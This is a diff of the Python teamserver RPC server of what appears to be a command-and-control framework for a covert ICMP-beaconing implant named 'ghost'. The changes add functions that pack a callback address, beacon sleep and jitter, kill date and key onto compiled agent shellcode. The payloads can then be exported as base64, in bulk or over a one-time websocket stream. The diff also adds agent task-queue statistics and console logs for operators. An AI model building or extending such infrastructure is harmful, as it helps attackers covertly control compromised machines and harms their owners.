@@ -1,19 +1,37 @@
 #!/usr/bin/env python3
 # -*- coding:utf-8 -*-
-import os
+import time
 import base64
 import random
 import struct
+import secrets
 import asyncio
 import uvicorn
 import ipaddress
 
 from lib import buffer
+from lib import metrics
+from lib import artifact
 
 from fastapi import FastAPI
+from fastapi import WebSocket
+from fastapi.responses import PlainTextResponse
 from fastapi_websocket_rpc import RpcMethodsBase
 from fastapi_websocket_rpc import WebsocketRPCEndpoint
 
+# Payload configuration appended to the artifact: the callback address in
+# network order followed by the little-endian options and key length
+PAYLOAD_CONFIG = struct.Struct( '<4sIBIHIBQI' )
+
+# Blobs are streamed over the binary channel in frames of this many bytes
+# and must be collected within this many seconds of being registered
+BLOB_CHUNK_SIZE = 64 * 1024
+BLOB_EXPIRE     = 300
+
+# Seconds a single channel gets to answer a pushed call before it is skipped
+CHANNEL_SEND_TIMEOUT = 5
+
+@metrics.instrument( 'teamserver_' )
 class RpcServerMethods( RpcMethodsBase ):
     """
     Exposed server methods to export payloads or queue commands to the
@@ -23,6 +41,37 @@ class RpcServerMethods( RpcMethodsBase ):
         # set the primary ghost object
         self.ghost = ghost
 
+        # compiled agent artifacts keyed by is_arch64
+        self.artifacts = { True: artifact.Artifact( '../agent/ghost.x64.bin' ), False: artifact.Artifact( '../agent/ghost.x86.bin' ) };
+
+    def _export_payload( self, ip_address, icmp_sleep, icmp_sleep_jitter, icmp_chunk_length, icmp_query_timeout, sleep, jitter, kill_date, is_arch64 ):
+        """
+        Returns the artifact for the architecture with the configuration for
+        the specified options appended, or None if the agent is not compiled.
+        """
+        # Did you forget to compile the artifacts! Make sure you do this!
+        if self.artifacts[ True ].get() is None or self.artifacts[ False ].get() is None:
+
+            # Print that we failed to compile the artifacts
+            self.ghost.log.error( f'Cannot export a payload as the agent has not been compiled.' );
+
+            # return nothing!
+            return None
+
+        # Construct the struct configuration
+        config = PAYLOAD_CONFIG.pack( ipaddress.IPv4Address( ip_address ).packed,
+                                      icmp_sleep,
+                                      icmp_sleep_jitter,
+                                      icmp_query_timeout,
+                                      icmp_chunk_length,
+                                      sleep,
+                                      jitter,
+                                      kill_date,
+                                      len( self.ghost.key ) );
+
+        # Return the shellcode with the configuration and key appended
+        return b''.join( [ self.artifacts[ is_arch64 ].get(), config, self.ghost.key.encode() ] );
+
     async def teamserver_export_payload( self, 
                                          ip_address : str = '', 
                                          icmp_sleep : int = 0, 
@@ -36,34 +85,67 @@ class RpcServerMethods( RpcMethodsBase ):
         """
         Exports a configured payload to the callee with the specified options.
         """
-        # Did you forget to compile the artifacts! Make sure you do this!
-        if not os.path.exists( '../agent/ghost.x64.bin' ) or not os.path.exists( '../agent/ghost.x86.bin' ):
+        # Build the configured shellcode
+        payload = self._export_payload( ip_address, icmp_sleep, icmp_sleep_jitter, icmp_chunk_length, icmp_query_timeout, sleep, jitter, kill_date, is_arch64 );
 
-            # Print that we failed to compile the artifacts
-            self.ghost.log.error( f'Cannot export a payload as the agent has not been compiled.' );
+        if payload is None:
+            return ''
 
-            # return nothing!
+        # Return the encoded shellcode as a base64 block safely
+        return base64.b64encode( payload ).decode()
+
+    async def teamserver_export_payload_stream( self,
+                                                ip_address : str = '',
+                                                icmp_sleep : int = 0,
+                                                icmp_sleep_jitter : int = 0,
+                                                icmp_chunk_length : int = 0,
+                                                icmp_query_timeout : int = 0,
+                                                sleep : int = 0,
+                                                jitter : int = 0,
+                                                kill_date : int = 0,
+                                                is_arch64 : bool = False ) -> str:
+        """
+        Exports a configured payload with the specified options over the binary
+        channel. Returns a one-time token to collect it from /blob/{token}.
+        """
+        # Build the configured shellcode
+        payload = self._export_payload( ip_address, icmp_sleep, icmp_sleep_jitter, icmp_chunk_length, icmp_query_timeout, sleep, jitter, kill_date, is_arch64 );
+
+        if payload is None:
             return ''
 
-        # extract the channel ID
-        channel_id = await self.ghost.rpc.rpc_get_channel_id_by_object( self.channel );
+        # Return the token to collect it with
+        return self.ghost.rpc.rpc_blob_add( payload );
 
-        # Construct the struct configuration
-        config  = struct.pack( '>I', int( ipaddress.ip_address( ip_address ) ) );
-        config += struct.pack( '<I', icmp_sleep );
-        config += struct.pack( '<B', icmp_sleep_jitter );
-        config += struct.pack( '<I', icmp_query_timeout );
-        config += struct.pack( '<H', icmp_chunk_length );
-        config += struct.pack( '<I', sleep );
-        config += struct.pack( '<B', jitter );
-        config += struct.pack( '<Q', kill_date );
-        config += struct.pack( '<I', len( self.ghost.key ) );
-        config += self.ghost.key.encode()
-
-        # Open the request shellcode based on the architecture
-        with open( '../agent/ghost.x64.bin' if is_arch64 else '../agent/ghost.x86.bin', 'rb+' ) as file:
-            # Return the encoded shellcode as a base64 block safely
-            return base64.b64encode( file.read() + config ).decode()
+    async def teamserver_export_payload_bulk( self, payloads : list = None ) -> list:
+        """
+        Exports a configured payload for each dictionary of options in the
+        list, taking the same options as teamserver_export_payload. Returns
+        the base64 payloads in the same order.
+        """
+        payload_list = []
+
+        # Loop through each set of options
+        for options in payloads or []:
+            # Build the configured shellcode
+            payload = self._export_payload( options.get( 'ip_address', '' ),
+                                            options.get( 'icmp_sleep', 0 ),
+                                            options.get( 'icmp_sleep_jitter', 0 ),
+                                            options.get( 'icmp_chunk_length', 0 ),
+                                            options.get( 'icmp_query_timeout', 0 ),
+                                            options.get( 'sleep', 0 ),
+                                            options.get( 'jitter', 0 ),
+                                            options.get( 'kill_date', 0 ),
+                                            options.get( 'is_arch64', False ) );
+
+            if payload is None:
+                return []
+
+            # Append the encoded shellcode as a base64 block safely
+            payload_list.append( base64.b64encode( payload ).decode() );
+
+        # Return the list
+        return payload_list
 
     async def teamserver_agent_list_get( self ) -> list:
         """
@@ -86,22 +168,89 @@ class RpcServerMethods( RpcMethodsBase ):
         # Return the list
         return inf_lst_result
 
-    async def teamserver_event_log_get( self, log_offset : int = 0 ) -> list:
+    async def teamserver_agent_list_diff( self, since_version : int = 0 ) -> dict:
+        """
+        Returns the agents that were added, changed or removed since the
+        specified agent table version, along with the current version to pass
+        on the next call. A since_version of 0 returns every agent.
+        """
+        version, updated, removed = await self.ghost.dbs.database_agent_get_diff( since_version );
+
+        # Return the changes
+        return { 'version': version, 'updated': updated, 'removed': removed }
+
+    async def teamserver_event_log_get( self, log_offset : int = 0, last_id : int = None ) -> list:
         """
         Reads from the event log and returns the list of events at and past the
-        specified offset.
+        specified offset, or after last_id if it is given. Each event carries
+        its id so the last one can be passed back as the next cursor.
         """
         log_evt_result = []
-        log_sql_result = await self.ghost.dbs.database_event_get_queue( log_offset );
+
+        # Events are pushed before they are written, so make sure everything
+        # already pushed is readable before reading the backlog
+        await self.ghost.dbs.database_log_flush();
+
+        log_sql_result = await self.ghost.dbs.database_event_get_queue( log_offset, last_id );
 
         # Loop through each entry and return a dictionary object
         for log_result in log_sql_result:
             # Append to the list in the order they were recieved!
-            log_evt_result.append( { 'timestamp': log_result.ev_time, 'type': log_result.ev_type, 'message': log_result.message } );
+            log_evt_result.append( { 'id': log_result.id, 'timestamp': log_result.ev_time, 'type': log_result.ev_type, 'message': log_result.message } );
 
         # Return the list, empty or not!
         return log_evt_result
 
+    async def teamserver_agent_log_get( self, agent_id : int = 0, after_id : int = 0, limit : int = 256 ) -> list:
+        """
+        Reads the agent's console log and returns up to limit entries after
+        after_id. Each entry carries its id so the last one can be passed back
+        as the next cursor.
+        """
+        log_agt_result = []
+
+        # Output is pushed before it is written, so make sure everything
+        # already pushed is readable before reading it
+        await self.ghost.dbs.database_log_flush();
+
+        log_sql_result = await self.ghost.dbs.database_agent_log_get( agent_id, after_id, limit );
+
+        # Loop through each entry and return a dictionary object
+        for log_result in log_sql_result:
+            # Append to the list in the order they were recieved!
+            log_agt_result.append( { 'id': log_result.id, 'timestamp': log_result.log_time, 'type': log_result.log_type, 'message': log_result.log_message } );
+
+        # Return the list, empty or not!
+        return log_agt_result
+
+    async def teamserver_agent_queue_stats_get( self ) -> list:
+        """
+        Returns, for each agent that has had tasks queued, its queue depth per
+        priority, bytes queued and owed, and the oldest and mean wait in seconds.
+        """
+        return await self.ghost.dbs.database_agent_get_queue_stats()
+
+    async def teamserver_metrics_get( self ) -> dict:
+        """
+        Returns the teamserver counters and, for each instrumented stage, its
+        call and error counts, total seconds and estimated p50 / p99 latency.
+        """
+        return metrics.snapshot()
+
+    async def teamserver_profile_start( self, duration : int = 30, interval : float = 0.005 ) -> bool:
+        """
+        Starts sampling the teamserver's event loop every interval seconds for
+        at most duration seconds. Returns False if a profile is already running.
+        """
+        return self.ghost.prf.start( duration, interval );
+
+    async def teamserver_profile_stop( self ) -> str:
+        """
+        Stops the running profile and returns it as collapsed stacks for
+        flamegraph tools. Stopping a profile that ran out of time just returns it.
+        """
+        return self.ghost.prf.stop();
+
 class RpcServer:
     """
     A class representing the fastapi RPC server. Exposes methods on to interact
@@ -112,11 +261,18 @@ class RpcServer:
         # set the primary ghost object
         self.ghost = ghost
 
-        # Lock for accessing the channel list
-        self.channel_list_lock = asyncio.Lock();
+        # Connected channels indexed both ways: ID -> channel, channel -> ID
+        self.channel_by_id = {}
+        self.channel_by_object = {}
+
+        # Blobs waiting to be collected over the binary channel keyed by token
+        self.blob_list = {}
 
-        # List of the connected channels and their ID
-        self.channel_list = []
+        # Items waiting to be pushed to the channels, keyed by client method
+        self.notify_pending = {}
+
+        # Broadcast tasks still in flight
+        self.notify_tasks = set()
 
         # fastapi application
         self.fastapi_application = FastAPI()
@@ -125,6 +281,12 @@ class RpcServer:
         self.fastapi_application_websock = WebsocketRPCEndpoint( RpcServerMethods( self.ghost ), on_connect = [ self._on_channel_enter ], on_disconnect = [ self._on_channel_leave ] );
         self.fastapi_application_websock.register_route( self.fastapi_application );
 
+        # Create the binary channel for large blobs
+        self.fastapi_application.add_api_websocket_route( '/blob/{token}', self._on_blob_stream );
+
+        # Expose the metrics for Prometheus to scrape
+        self.fastapi_application.add_api_route( '/metrics', self._on_metrics, methods = [ 'GET' ], response_class = PlainTextResponse );
+
     async def start( self, teamserver_host, teamserver_port ):
         """
         Starts the fastapi server on the specified host:port
@@ -142,58 +304,160 @@ class RpcServer:
         Adds a channel to the list of valid channels when an RPC session is 
         successfully negotiated.
         """
-        # Acquire an exclusive lock to the list
-        async with self.channel_list_lock:
-            # Generate a unique channel ID
+        # Generate a unique channel ID that is not already in use
+        channel_uniq_id = random.getrandbits( 32 );
+
+        while channel_uniq_id in self.channel_by_id:
             channel_uniq_id = random.getrandbits( 32 );
 
-            # Add to the list of valid channels
-            self.channel_list.append( { 'id': channel_uniq_id, 'object': channel } );
+        # Add to the valid channels
+        self.channel_by_id[ channel_uniq_id ] = channel
+        self.channel_by_object[ channel ] = channel_uniq_id
 
     async def _on_channel_leave( self, channel ):
         """
         Removes a channel from the list of valid channels when an RPC session
         is lost.
         """
-        # Acquire an exclusive lock to the list
-        async with self.channel_list_lock:
-            # Loop through each entry in the list
-            for channel_entry in self.channel_list:
-                # Is this the channel we are looking for?
-                if channel_entry[ 'object' ] == channel:
-                    # Delete it from the list!
-                    del self.channel_list[ self.channel_list.index( channel_entry ) ]
+        # Look up and remove the channel
+        channel_uniq_id = self.channel_by_object.pop( channel, None );
+
+        # Was it still registered? Drop the ID as well
+        if channel_uniq_id is not None:
+            del self.channel_by_id[ channel_uniq_id ]
+
+    def rpc_blob_add( self, blob ):
+        """
+        Registers a blob to be streamed over the binary channel and returns
+        the one-time token to collect it with.
+        """
+        # Forget any blobs that were never collected
+        blob_time = self._blob_prune();
+
+        # Generate an unguessable token
+        token = secrets.token_urlsafe( 32 );
+
+        # Add to the list of blobs
+        self.blob_list[ token ] = { 'blob': blob, 'expires': blob_time + BLOB_EXPIRE };
+
+        # Return the token
+        return token
+
+    def _blob_prune( self ):
+        """
+        Drops the blobs that expired without being collected and returns the
+        current time. Blobs expire in the order they were added, so this stops
+        at the first one still waiting.
+        """
+        blob_time = time.monotonic();
+
+        while self.blob_list:
+            token, entry = next( iter( self.blob_list.items() ) );
+
+            if entry[ 'expires' ] >= blob_time:
+                break
+
+            del self.blob_list[ token ]
+
+        return blob_time
+
+    async def _on_blob_stream( self, websocket : WebSocket, token : str ):
+        """
+        Streams the blob registered under the token as binary frames of at
+        most BLOB_CHUNK_SIZE bytes, then closes. Each token works only once.
+        """
+        # Forget any blobs that were never collected
+        self._blob_prune();
+
+        # Claim the blob so it cannot be collected twice
+        entry = self.blob_list.pop( token, None );
+
+        # Unknown or expired token? Refuse it
+        if entry is None or entry[ 'expires' ] < time.monotonic():
+            await websocket.close( code = 1008 );
+            return
+
+        # Accept the connection
+        await websocket.accept();
+
+        # Send the blob a chunk at a time without copying the whole thing
+        blob = memoryview( entry[ 'blob' ] );
+
+        for offset in range( 0, len( blob ), BLOB_CHUNK_SIZE ):
+            await websocket.send_bytes( bytes( blob[ offset : offset + BLOB_CHUNK_SIZE ] ) );
+
+        # Done!
+        await websocket.close();
+
+    async def _on_metrics( self ):
+        """
+        Returns the teamserver metrics in the Prometheus text format.
+        """
+        return PlainTextResponse( metrics.render(), media_type = 'text/plain; version=0.0.4' );
+
+    def rpc_notify( self, method, argument, item ):
+        """
+        Queues the item to be pushed to every connected channel by calling
+        the client method with a list of items as the named argument. Items
+        queued within the same loop iteration are sent as one call.
+        """
+        # Count it
+        metrics.count( 'rpc_notifications' );
+
+        # Add to the pending items for the method
+        pending = self.notify_pending.setdefault( method, ( argument, [] ) )
+        pending[ 1 ].append( item );
+
+        # First item? Schedule the push once the current burst is queued
+        if len( pending[ 1 ] ) == 1:
+            asyncio.get_running_loop().call_soon( self._rpc_notify_flush, method );
+
+    def _rpc_notify_flush( self, method ):
+        """
+        Starts a broadcast of the items pending for the method.
+        """
+        argument, items = self.notify_pending.pop( method );
+
+        # Keep a reference to the task until it finishes
+        task = asyncio.create_task( self.rpc_broadcast( method, **{ argument: items } ) );
+        self.notify_tasks.add( task );
+        task.add_done_callback( self.notify_tasks.discard );
+
+    async def rpc_send( self, channel, method, **kwargs ):
+        """
+        Calls the client method on a single channel, giving up after
+        CHANNEL_SEND_TIMEOUT seconds. Returns whether the call succeeded.
+        """
+        try:
+            # Call the method and wait for the answer
+            await asyncio.wait_for( getattr( channel.other, method )( **kwargs ), CHANNEL_SEND_TIMEOUT );
+        except Exception as exception:
+            # A slow or broken channel is cleaned up when it leaves
+            self.ghost.log.debug( f'Failed to send {method} to channel {self.channel_by_object.get( channel )}: {exception!r}' );
+            return False
+
+        return True
+
+    async def rpc_broadcast( self, method, **kwargs ):
+        """
+        Calls the client method on every connected channel concurrently, so a
+        slow channel only delays itself.
+        """
+        # Send to all of them at once
+        await asyncio.gather( *[ self.rpc_send( channel, method, **kwargs ) for channel in list( self.channel_by_object ) ] );
 
     async def rpc_get_channel_object_by_id( self, channel_id ):
         """
         Returns the channel object based on its channel ID if it exists and is
         still connected.
         """
-        # Acquire an exclusive lock to the list
-        async with self.channel_list_lock:
-            # Loop through each object in the list
-            for channel_entry in self.channel_list:
-                # Is this the channel we are looking for?
-                if channel_entry[ 'id' ] == channel_id:
-                    # return the channel object
-                    return channel_entry[ 'object' ]
-
         # Channel no longer exists return nothing.
-        return None
+        return self.channel_by_id.get( channel_id );
 
     async def rpc_get_channel_id_by_object( self, channel_object ):
         """
         Returns the channel ID based on on the object it exists and is still
         connected.
         """
-        # Acquire an exclusive lock to the list
-        async with self.channel_list_lock:
-            # Loop through each object in the list
-            for channel_entry in self.channel_list:
-                # Is this the channel we are looking for?
-                if channel_entry[ 'object' ] == channel_object:
-                    # return the channel ID
-                    return channel_entry[ 'id' ]
-
         # Channel no longer exists return nothing!
-        return None
+        return self.channel_by_object.get( channel_object );